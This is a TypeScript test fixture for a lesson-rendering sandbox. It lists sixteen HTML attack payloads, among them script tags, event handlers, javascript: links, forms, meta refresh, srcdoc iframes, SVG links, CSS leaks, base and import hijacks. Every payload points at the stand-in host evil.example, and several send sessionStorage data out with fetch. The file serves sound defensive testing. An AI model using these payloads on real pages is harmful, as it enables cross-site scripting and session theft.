// What lessons try that attack their reader. On a page that shows them without the frame each gets what it wants: `npm run
// stress` makes them there.

/** What attackers want to have. */
export const KEY = "lectern_secret";
/** Where attackers want requests to come. No request arrives there, but each is recorded. */
export const EVIL = "http://evil.example";
const STEAL = `fetch('${EVIL}/?'+sessionStorage.key)`;
const LINK = `javascript:${STEAL};void 0`;

export interface Attack {
  name: string;
  html: string;
  /** Comes about with a click of the reader. */
  isClicked?: boolean;
  /** Leads away from the page by itself. */
  leaves?: boolean;
}

const button = (form: string, more = ""): string => `<form ${form}><button id="it" ${more}>Go</button></form>`;
const drawing = (link: string, within = ""): string =>
  `<svg height="40" width="40"><a id="it" ${link}>${within}<rect height="40" width="40"/></a></svg>`;
const setLink = `<set attributeName="target" to="_self"/><set attributeName="href" to="${EVIL}/"/>`;
const isClicked = true;

export const attacks: Attack[] = [
  { name: "a script", html: `<script>${STEAL}</script>` },
  { name: "an event handler", html: `<img src="data:," onerror="${STEAL}">` },
  { name: "a javascript: link", html: `<a id="it" href="${LINK}">Next</a>`, isClicked },
  { name: "a form", html: button(`action="${EVIL}/" method="post"`), isClicked },
  { name: "a button with an address of its own", html: button("", `formaction="${EVIL}/"`), isClicked },
  { name: "a refresh", html: `<meta http-equiv="refresh" content="0;url=${EVIL}/">`, leaves: true },
  { name: "a frame with a document of its own", html: `<iframe srcdoc="<script>${STEAL}</script>"></iframe>` },
  { name: "a script in a drawing", html: `<svg><script>${STEAL}</script></svg>` },
  { name: "a link in a drawing", html: drawing(`xlink:href="${LINK}"`), isClicked },
  { name: "a link in a drawing that moves away from its address", html: drawing('href="#x"', setLink), isClicked },
  { name: "styles that read what is outside", html: `<style>#outside[value^="l"]{background:url(${EVIL}/?s)}</style>` },
  { name: "a form for the top", html: button(`action="${EVIL}/" target="_top"`), isClicked },
  { name: "another base", html: `<base href="${EVIL}/"><img src="a.png">` },
  { name: "an object", html: `<object data="${EVIL}/a.html"></object>` },
  { name: "a stylesheet", html: `<link rel="stylesheet" href="${EVIL}/a.css">` },
  { name: "imported styles", html: `<style>@import url(${EVIL}/a.css);</style>` },
];
